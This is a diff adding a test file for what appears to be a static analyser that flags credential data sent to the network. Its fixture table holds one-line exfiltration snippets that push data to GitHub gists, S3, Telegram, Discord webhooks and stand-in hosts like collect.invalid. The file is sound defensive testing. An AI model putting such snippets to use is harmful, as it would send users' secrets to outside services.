@@ -1,0 +1,32 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+const GIVEN_AWAY: Readonly<Record<string, string>> = {
+  [`const { Octokit } = require('@octokit/rest'); new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: s } } });`]:
+    'api.github.com',
+  [`const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Body: s }));`]:
+    's3.amazonaws.com',
+  [`const AWS = require('aws-sdk'); new AWS.S3().putObject({ Bucket: 'b', Body: s }).promise();`]: 'amazonaws.com',
+  [`const { MongoClient } = require('mongodb'); new MongoClient('mongodb://u:p@collect.invalid').db('x').collection('y').insertOne({ s });`]:
+    'collect.invalid',
+  [`const Bot = require('node-telegram-bot-api'); new Bot('1:A').sendMessage(1, s);`]: 'api.telegram.org',
+  [`const { Telegraf } = require('telegraf'); new Telegraf('1:A').telegram.sendDocument(1, { source: rc });`]:
+    'api.telegram.org',
+  [`const { WebhookClient } = require('discord.js'); new WebhookClient({ id: '1' }).send(s);`]: 'discord.com',
+  [`const { createClient } = require('@supabase/supabase-js'); createClient('https://collect.invalid', 'k').from('x').insert({ s });`]:
+    'collect.invalid',
+};
+
+describe('clients of services', () => {
+  for (const [code, host] of Object.entries(GIVEN_AWAY)) {
+    it(`hand over what they are given: ${code}`, () => {
+      const flows = flowsOf(code);
+      assert.ok(flows.includes(`credential-file>network@${host}`), flows.join('; '));
+    });
+  }
+
+  it('are given nothing by being made or asked', () => {
+    const code = `const { Octokit } = require('@octokit/rest'); const o = new Octokit({}); o.repos.listForUser({ username: s.length });`;
+    assert.deepEqual(flowsOf(code), []);
+  });
+});
